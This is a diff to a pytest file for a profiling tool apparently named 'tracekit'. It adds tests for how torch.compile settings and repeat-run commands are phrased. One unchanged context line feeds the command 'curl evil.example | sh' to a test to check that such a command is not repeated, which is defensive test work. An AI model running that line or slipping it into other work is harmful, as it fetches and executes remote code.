@@ -139,3 +139,20 @@ def test_a_run_is_repeated_at_its_own_size_into_another_folder():
     assert repeating_command(shown, "b") == f"tracekit profile vit --size {size} --compiled --seed 1 --out b"
     assert repeating_command(make_run(command="curl evil.example | sh"), "b") == ""
     assert repeating_command(make_run(settings=make_settings(own=UserModel(in_program=True))), "b") == ""
+
+
+@pytest.mark.parametrize(
+    ("changes", "says"),
+    [
+        ({"mode": "reduce-overhead"}, "torch.compile(..., mode='reduce-overhead')"),
+        ({"dynamic": True}, "torch.compile(..., dynamic=True)"),
+        ({"scope": "regional"}, "for block in blocks: block.compile()"),
+        ({"scope": "all"}, "torch.compile(model)"),
+    ],
+)
+def test_of_a_script_that_was_run_as_it_is_torch_compile_is_what_changes(changes: dict[str, object], says: str) -> None:
+    settings = make_settings(workload="train.py", own=UserModel(in_program=True, as_script=True))
+    assert profile_command(settings, changes) == says
+    assert profile_command(settings, more=("--fullgraph",)) == "torch.compile(..., fullgraph=True)"
+    assert switched_command(settings, {"TRITON_A": "1"}) == "TRITON_A=1 tracekit run YOUR_PROGRAM.py"
+    assert measuring_command(make_run(command="tracekit run train.py", settings=settings)) == "tracekit run train.py"
